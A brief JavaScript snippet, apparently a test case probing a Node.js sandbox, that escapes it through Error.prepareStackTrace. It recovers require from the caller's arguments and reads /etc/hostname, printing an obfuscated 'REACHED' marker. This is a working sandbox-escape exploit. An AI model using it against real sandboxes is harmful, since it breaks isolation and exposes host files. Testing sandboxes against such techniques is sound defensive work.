// prepareStackTrace written out as a text or a key
Error['prepareStackTrace'] = (e, s) => s;
const f = new Error().stack[0].getFunction();
const r = f.arguments[1];
console.log('REA'+'CHED', r('fs').readFileSync('/etc/hostname', 'utf8'));
